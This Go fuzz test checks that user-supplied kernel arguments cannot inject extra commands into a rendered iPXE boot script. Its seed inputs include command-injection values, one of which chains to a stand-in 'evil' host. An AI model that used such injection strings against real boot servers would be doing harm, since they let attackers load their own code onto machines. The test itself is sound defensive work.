package discovery

import (
	"strings"
	"testing"

	v1beta1 "github.com/agentboot/agentboot/api/agentinstall/v1beta1"
)

// ipxeCommands splits a script as iPXE does: line by line, each line into
// words at whitespace (iPXE knows no quotes), commands ending at a word
// ";", "&&" or "||" and comments at a word starting with '#'. It returns
// each command's first word, and the ${...} expansions in the script.
func ipxeCommands(script string) (commands []string, expansions int) {
	for _, line := range strings.Split(script, "\n") {
		expansions += strings.Count(line, "${")
		start := true
		for _, w := range strings.Fields(line) {
			switch {
			case strings.HasPrefix(w, "#"):
				if w != "#!ipxe" {
					commands = append(commands, "#comment")
				}
				start = false
			case w == ";" || w == "&&" || w == "||":
				start = true
			case start:
				commands = append(commands, w)
				start = false
			}
			if strings.HasPrefix(w, "#") {
				break
			}
		}
	}
	return commands, expansions
}

// FuzzIPXEScript: whatever kernel argument an InfraEnv holds, a value the
// renderer accepts gives a boot script with exactly the commands meant
// (initrd, kernel, boot) and no ${...} expansion but BOOTIF's.
func FuzzIPXEScript(f *testing.F) {
	for _, seed := range []string{`console=ttyS0,115200n8`, `x="a ; chain http://evil/"`, `x="a && b"`, `rd.x="1 2"`, `a=${x}`, `";"`, `"a #b"`, "a\nchain x", `x="||"`} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, value string) {
		args, err := kernelArguments("coreos.liveiso=x ignition.firstboot", []v1beta1.KernelArgument{{Value: value}})
		if err != nil {
			return // refused: nothing is rendered
		}
		out := &Output{PXEKargs: strings.Join(append(args, "BOOTIF=01-${netX/mac:hexhyp}"), " ")}
		out.URLs.Initrd, out.URLs.Kernel = "http://198.18.0.1:8080/initrd?a=1&b=2", "http://198.18.0.1:8080/kernel"
		script := out.IPXEScript()
		commands, expansions := ipxeCommands(script)
		if strings.Join(commands, ",") != "initrd,kernel,boot" || expansions != 1 {
			t.Fatalf("kernel argument %q gives commands %q and %d expansions:\n%s", value, commands, expansions, script)
		}
	})
}
